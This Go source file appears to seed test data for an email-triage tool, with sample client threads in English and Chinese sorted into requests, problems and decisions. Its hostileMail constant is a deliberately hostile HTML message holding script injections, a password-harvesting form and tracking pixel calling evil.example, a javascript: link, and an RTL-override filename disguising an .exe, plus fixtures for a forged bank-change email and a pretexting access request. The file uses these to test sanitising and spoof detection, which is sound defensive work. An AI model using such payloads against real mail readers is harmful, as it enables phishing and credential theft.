package web

import (
	"time"

	"rapport/threads"
)

// pixel is a PNG of one pixel.
const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="

// hostileMail is HTML with a picture of its own, one from elsewhere, and what must not pass.
const hostileMail = "From: Anna Lindqvist <anna@harbour.example>\r\nTo: projects@northlight.example\r\nSubject: Re: Checkout\r\n" +
	"Message-ID: <m0000000000000003@mail.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n" +
	"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
	"<html><head><title>no</title><meta http-equiv=refresh content='0;url=https://evil.example/'><style>body{background:url(https://evil.example/s)}</style>" +
	"<script>alert(1)</script></head><body onload=alert(2) style='font-family:Calibri'><p style=\"color:#1f497d;position:fixed\">The discount is <b>not applied</b> in the basket.</p>" +
	"<p><img src=\"cid:shot@harbour\" alt=\"the basket\" width=\"120\" height=\"60\"> <img src=\"https://evil.example/logo.png\" alt=\"Harbour logo\" width=180>" +
	"<img src=\"https://evil.example/open.gif\" width=1 height=1></p><form action=https://evil.example/><input name=password></form>" +
	"<p><a href=\"https://harbour.example/basket\">The basket</a> <a href=\"javascript:alert(3)\">and this</a></p></body></html>\r\n" +
	"--b\r\nContent-Type: image/png; name=shot.png\r\nContent-ID: <shot@harbour>\r\nContent-Transfer-Encoding: base64\r\n\r\n" + pixel + "\r\n" +
	"--b\r\nContent-Type: text/html; name=\"offer.html\"\r\nContent-Disposition: attachment; filename=\"offer.html\"\r\n\r\n<script>alert(4)</script>\r\n" +
	"--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\r\n\r\n%PDF-1.4\r\n--b--\r\n"

func (w *world) harbour() {
	const t1, t2 = "t0000000000000001", "t0000000000000002"
	w.thread(t1, "HARBOUR-WEB", "Checkout and the launch date", ago(6*day), anna, ravi, lena)
	w.thread(t2, "HARBOUR-WEB", "Weekly report: Web shop", ago(5*day), ours, anna)
	due := func(iso string) func(*threads.Item) {
		return func(i *threads.Item) { i.Due, i.Facet = iso, threads.Schedule }
	}
	w.mail(threads.Message{
		ID: "m0000000000000001", Project: "HARBOUR-WEB", Thread: t1, From: anna, To: []threads.Address{ours}, Cc: []threads.Address{ravi},
		Subject: "Checkout and the launch date", Received: ago(6 * day), Language: "en",
		NewText: "Hi Lena,\n\nthe new product pages look great, thank you!\n\nTwo things though. The discount code WINTER25 is not applied in the basket, so customers see the full price until the last step. And could you please add the opening hours of the two new cafés to the footer? We need that before Friday's press visit.\n\nAlso, I am a bit worried that we will not be ready for 1 December.\n\nBest\nAnna",
		Folds:   []threads.Fold{{Reason: "signature", At: -1, Text: "Anna Lindqvist\nHead of Digital\nHarbour Coffee AB · Västra Hamngatan 12"}},
		Evidence: []threads.Evidence{
			{Kind: "our-address", Project: "HARBOUR-WEB", Score: 40, Detail: "written to projects+harbour@northlight.example"},
			{Kind: "contact", Project: "HARBOUR-WEB", Score: 60, Detail: "anna@harbour.example is a contact of Harbour Coffee"},
		},
	},
		said{threads.Praise, "the new product pages look great, thank you!", nil},
		said{threads.Problem, "The discount code WINTER25 is not applied in the basket, so customers see the full price until the last step.", func(i *threads.Item) { i.Urgent, i.Facet = true, threads.Technical }},
		said{threads.Request, "could you please add the opening hours of the two new cafés to the footer? We need that before Friday's press visit.", due("2026-11-24")},
		said{threads.Concern, "I am a bit worried that we will not be ready for 1 December.", due("2026-12-01")},
	)
	w.mail(threads.Message{
		ID: "m0000000000000002", Project: "HARBOUR-WEB", Thread: t1, Direction: threads.Out, From: lena, To: []threads.Address{anna},
		Subject: "Re: Checkout and the launch date", Received: ago(5*day + 20*time.Hour), Language: "en",
		NewText: "Dear Anna,\n\nthank you, I will look into the discount code today. Which of the two footers do you mean, the one on the shop or the one on the landing page?\n\nKind regards\nLena",
		Folds:   []threads.Fold{{Reason: "quote", At: -1, Text: "> The discount code WINTER25 is not applied in the basket\n> so customers see the full price until the last step."}},
	})
	w.raw["m0000000000000003"] = []byte(hostileMail)
	w.mail(threads.Message{
		ID: "m0000000000000003", Project: "HARBOUR-WEB", Thread: t1, From: anna, To: []threads.Address{ours},
		Subject: "Re: Checkout", Received: ago(3 * day), Language: "en",
		NewText:     "Both, please.\n\nAnd what would it cost to have the basket show the saving in kronor as well?",
		Folds:       []threads.Fold{{Reason: "our letter", At: len("Both, please.\n\n"), Text: "> Which of the two footers do you mean,\n> the one on the shop or the one on the landing page?"}},
		Attachments: []threads.Attachment{{Part: "3", Name: "offer.html", Type: "text/html", Size: 25}, {Part: "4", Name: "invoicefdp.exe", Type: "application/pdf", Size: 1_240_000}},
		Faults:      []threads.Fault{{Code: "charset-guessed", Detail: "the text says us-ascii but has other bytes; it was read as windows-1252"}},
	},
		said{threads.Question, "what would it cost to have the basket show the saving in kronor as well?", func(i *threads.Item) {
			i.Facet, i.Sure, i.Why = threads.Budget, false, "the wording is not clear"
		}},
	)
	w.mail(threads.Message{
		ID: "m0000000000000004", Project: "HARBOUR-WEB", Thread: t1, From: ravi, To: []threads.Address{ours}, Class: threads.ClassOutOfOffice,
		ClassReason: "Auto-Submitted: auto-replied, and a subject of absence", Subject: "Out of office: Checkout", Received: ago(3*day - time.Hour), Away: &threads.Away{Until: "2026-11-30"},
		Text: "I am away until 30 November. Please write to Anna in urgent cases.", Folds: []threads.Fold{{Reason: "machine mail", Text: "I am away until 30 November. Please write to Anna in urgent cases."}},
	})
	w.mail(threads.Message{
		ID: "m0000000000000005", Project: "HARBOUR-WEB", Thread: t2, Direction: threads.Out, From: ours, To: []threads.Address{anna, ravi},
		Subject: "Weekly report: Web shop", Received: ago(5 * day), Language: "en",
		NewText: "Weekly report\n\nThe shop is on track for 1 December.\n\nP1 The discount code is repaired and waits for your test.\nP2 We propose to move the blog to January. Is that all right?",
	})
	w.mail(threads.Message{
		ID: "m0000000000000006", Project: "HARBOUR-WEB", Thread: t2, From: anna, To: []threads.Address{ours},
		Subject: "Re: Weekly report: Web shop", Received: ago(2 * time.Hour), Language: "en",
		NewText: "Tested, works.\n\nYes, move the blog to January, but only if the recipes stay online.",
		Folds: []threads.Fold{
			{Reason: "our letter", At: 0, Text: "> P1 The discount code is repaired and waits for your test."},
			{Reason: "our letter", At: len("Tested, works.\n\n"), Text: "> P2 We propose to move the blog to January. Is that all right?"},
		},
	},
		said{threads.Decision, "Yes, move the blog to January, but only if the recipes stay online.", func(i *threads.Item) {
			i.Report, i.Point, i.About = "r0000000000000001", "P2", "We propose to move the blog to January. Is that all right?"
			i.Sure, i.Why = false, "the decision has a condition"
		}},
		said{threads.Praise, "Tested, works.", func(i *threads.Item) { i.Report, i.Point = "r0000000000000001", "P1" }},
	)
}

func (w *world) yunshan() {
	const t3 = "t0000000000000003"
	w.thread(t3, "YUNSHAN-APP", "小程序首页与上线时间", ago(9*day), zhou, li, lena)
	w.mail(threads.Message{
		ID: "m0000000000000011", Project: "YUNSHAN-APP", Thread: t3, From: zhou, To: []threads.Address{ours},
		Subject: "小程序首页与上线时间", Received: ago(9 * day), Language: "zh",
		NewText:  "各位好：\n\n新首页我们内部看过了，整体效果不错。有几点麻烦尽快处理：\n\n1. 安卓手机上点“立即领取”没有反应，苹果手机正常。\n2. 希望会员等级页增加积分明细，下周五前能看到初稿。\n3. 短信费用是按条算还是包月？\n\n另外，第二版的配色方案就按 B 来做吧。我们会在周三前把商品图片整理好发过来。\n\n谢谢！\n周敏",
		Evidence: []threads.Evidence{{Kind: "domain", Project: "YUNSHAN-APP", Score: 50, Detail: "yunshan.example is the domain of 云杉科技"}},
		Folds:    []threads.Fold{{Reason: "disclaimer", At: -1, Text: "【保密声明】本邮件及附件含有保密信息，仅限收件人使用。"}},
	},
		said{threads.Praise, "整体效果不错", nil},
		said{threads.Problem, "安卓手机上点“立即领取”没有反应，苹果手机正常。", func(i *threads.Item) {
			i.Facet, i.State = threads.Technical, threads.Answered
			i.Answer = &threads.Answer{Item: i.ID, Word: threads.Accepted, Reason: "已定位为系统浏览器兼容问题，修复后会请您在测试机上确认。", Next: "发布修复版本", Date: "2026-11-27", By: "tao", At: ago(7 * day), Report: "r0000000000000002"}
		}},
		said{threads.Request, "希望会员等级页增加积分明细，下周五前能看到初稿。", func(i *threads.Item) { i.Facet, i.Due = threads.Business, "2026-11-26" }},
		said{threads.Question, "短信费用是按条算还是包月？", func(i *threads.Item) { i.Facet = threads.Budget }},
		said{threads.Decision, "第二版的配色方案就按 B 来做吧。", nil},
		said{threads.Commitment, "我们会在周三前把商品图片整理好发过来。", func(i *threads.Item) { i.Due = "2026-11-25" }},
	)
	w.mail(threads.Message{
		ID: "m0000000000000012", Project: "YUNSHAN-APP", Thread: t3, Direction: threads.Out, From: threads.Address{Name: "陶然", Address: "tao@northlight.example"}, To: []threads.Address{zhou},
		Subject: "Re: 小程序首页与上线时间", Received: ago(8 * day), Language: "zh",
		NewText: "周敏您好：\n\n邮件已收到，安卓的问题今天排查，积分明细的初稿我们排在下周三。\n\n祝好\n陶然",
		Folds:   []threads.Fold{{Reason: "quote", At: -1, Text: "> 1. 安卓手机上点“立即领取”没有反应，苹果手机正常。\n> 2. 希望会员等级页增加积分明细，下周五前能看到初稿。"}},
	})
	w.mail(threads.Message{
		ID: "m0000000000000013", Project: "YUNSHAN-APP", Thread: t3, From: li, Sender: &lena, To: []threads.Address{ours},
		Subject: "转发: 服务器告警", Received: ago(28 * time.Hour), Language: "zh",
		NewText: "昨晚 10 点到 11 点之间，用户付款后一直停在“处理中”，已经有 6 个投诉，请今天内务必处理。",
	},
		said{threads.Problem, "昨晚 10 点到 11 点之间，用户付款后一直停在“处理中”，已经有 6 个投诉，请今天内务必处理。", func(i *threads.Item) {
			i.Urgent, i.Due, i.Facet = true, "2026-11-24", threads.Technical
		}},
	)
}

func (w *world) meridian() {
	const t4 = "t0000000000000004"
	w.thread(t4, "MERIDIAN-PORTAL", "Supplier login 供应商登录", ago(20*day), noor)
	w.mail(threads.Message{
		ID: "m0000000000000021", Project: "MERIDIAN-PORTAL", Thread: t4, From: noor, To: []threads.Address{ours},
		Subject: "Supplier login 供应商登录", Received: ago(20 * day), Language: "en",
		NewText: "Dear all,\n\nthe suppliers in Shenzhen ask whether they may log in with 企业微信. Is this planned?\n\nNoor",
	},
		said{threads.Question, "the suppliers in Shenzhen ask whether they may log in with 企业微信. Is this planned?", func(i *threads.Item) {
			i.State = threads.Answered
			i.Answer = &threads.Answer{Item: i.ID, Word: threads.Deferred, Reason: "Single sign-on is planned for the second phase.", Next: "We send an offer for it", Date: "2027-01-15", By: "lena", At: ago(15 * day)}
		}},
	)
	w.mail(threads.Message{
		ID: "m0000000000000022", Project: "MERIDIAN-PORTAL", Thread: t4, Received: ago(19 * day),
		Erased: &threads.Erasure{Message: "m0000000000000022", Cause: threads.CauseRequest, Reason: "Request 12 of 9 November", By: "lena", At: ago(2 * day)},
	})
}

func (w *world) unfiled() {
	w.mail(threads.Message{
		ID: "m0000000000000031", From: alien, To: []threads.Address{ours}, Subject: "[HARBOUR-WEB] Access to the shop's back end", Received: ago(5 * time.Hour),
		NewText: "Hello, Anna asked me to look at the numbers. Please send me a login for the back end of the web shop as soon as you can.",
		Tray:    &threads.Tray{Cause: "not-of-project", Words: "The subject names HARBOUR-WEB, but pat.doyle@elsewhere.example is not one of Harbour Coffee's people.", Proposal: "HARBOUR-WEB"},
	})
	w.mail(threads.Message{
		ID: "m0000000000000033", From: anna, To: []threads.Address{ours}, Subject: "Our new bank account", Received: ago(6 * time.Hour),
		NewText: "Dear Lena, please use our new account for the refund. It is urgent.",
		Tray:    &threads.Tray{Cause: "forged", Words: "It says that it is from Anna Lindqvist <anna@harbour.example>. Our server mx.northlight.example has found that it does not come from harbour.example as it says (DMARC). It was sent by bulk.example: a mailing list or forwarding may do that, and so may an impostor. Ask them in another way before you file it.", Proposal: "HARBOUR-WEB"},
		Authentication: &threads.Authentication{Verdict: threads.Forged, Why: threads.WhyDMARCFailed, Domain: "harbour.example", Via: "bulk.example", Mailbox: "projects", Server: "mx.northlight.example",
			Line:       "mx.northlight.example; spf=pass smtp.mailfrom=bulk.example; dmarc=fail (p=reject) header.from=harbour.example",
			Signatures: []threads.Signature{{Domain: "bulk.example", Selector: "s1", Holds: true, Key: "v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"}, {Domain: "harbour.example", Selector: "2026", Words: "body hash did not verify"}},
			PolicyAt:   "_dmarc.harbour.example", Policy: "v=DMARC1; p=reject; adkim=s", At: ago(6 * time.Hour)},
	})
	w.mail(threads.Message{
		ID: "m0000000000000032", From: threads.Address{Name: "行业周报", Address: "news@weekly.example"}, To: []threads.Address{ours}, Class: threads.ClassList, ClassReason: "List-Unsubscribe",
		Subject: "", Received: ago(30 * time.Hour), NewText: "本周要闻：零售小程序的五个趋势。点击阅读全文，或退订本邮件。",
		Tray: &threads.Tray{Cause: "unknown-sender", Words: "news@weekly.example belongs to no project."},
	})
}
